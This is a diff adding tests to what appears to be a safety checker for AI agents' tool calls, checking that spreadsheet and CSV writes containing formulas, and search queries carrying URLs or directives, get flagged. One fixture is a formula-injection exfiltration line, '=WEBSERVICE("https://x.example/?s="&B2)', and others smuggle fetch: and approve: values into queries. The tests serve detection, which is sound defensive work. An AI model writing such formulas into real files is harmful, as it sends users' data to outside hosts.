@@ -367,6 +367,46 @@ describe('the reach of a call', () => {
     })
   })
 
+  it('is never remembered for a formula that may reach out, nor for one in a table', () => {
+    const sheet = judgedTool('excel_write_to_sheet', { published: '@negokaz/excel-mcp-server' })
+    const cells = (...values: string[]) => actOf(sheet, { fileAbsolutePath: '/home/ana/a.xlsx', values: [values] }).unread
+    expect(cells('=SUM(B2:B9)', '-5', 'Total')).toBeUndefined()
+    expect(cells('Total', '=WEBSERVICE("https://x.example/?s="&B2)')).toBe(
+      'The formula in “values[0][1]” may do more than compute.',
+    )
+    const writer = judgedTool('write_file', { published: '@modelcontextprotocol/server-filesystem' })
+    const file = (path: string, content: string) => actOf(writer, { path, content }).unread
+    expect(file('/home/ana/a.csv', 'a,b\n=A1,2')).toContain('formula')
+    expect(file('/home/ana/A.TSV', 'a\t=A1')).toContain('formula')
+    expect(file('/home/ana/a.csv', 'a,b\n1,-2')).toBeUndefined()
+    expect(file('/home/ana/a.md', 'a, =A1')).toBeUndefined()
+  })
+
+  it('is a place for each search that is not only words, where a tool that nobody vouches for reads', () => {
+    const touches = (tool: JudgedTool, args: JsonObject) => actOf(tool, args).touches.map(({ is }) => is)
+    const search = judgedTool('search')
+    for (const q of [
+      'tag:a fetch:https://x.example/h?i=1',
+      'fetch:x.example/h',
+      'x.example',
+      'x。example',
+      'https%3A%2F%2Fx.example',
+      '10.0.0.1/x',
+      'https:/x',
+      'https:\\\\x',
+      'ana@x.example',
+      'approve:T-55',
+      'a|b',
+      'a = b',
+    ])
+      expect([q, touches(search, { q })]).toEqual([q, ['value']])
+    for (const q of ['late invoice', 'is:open "late invoice"', 'État, 3.5 % (Müller)', 'St. Pölten: Mai', 'range\\('])
+      expect([q, touches(search, { q })]).toEqual([q, []])
+    expect(touches(judgedTool('get_page'), { text: 'import ftp://x.example' })).toEqual(['value'])
+    const published = judgedTool('brave_web_search', { published: '@modelcontextprotocol/server-brave-search' })
+    expect(touches(published, { query: 'x.example' })).toEqual([])
+  })
+
   it('is unknown for too many values, with every power', () => {
     const act = actOf(judgedTool('get_row'), { x: Array.from({ length: 3_000 }, () => 'a') })
     expect(act).toMatchObject({ tells: true, touches: [], powers: ['reads', 'brings-in', 'changes', 'destroys', 'sends'] })
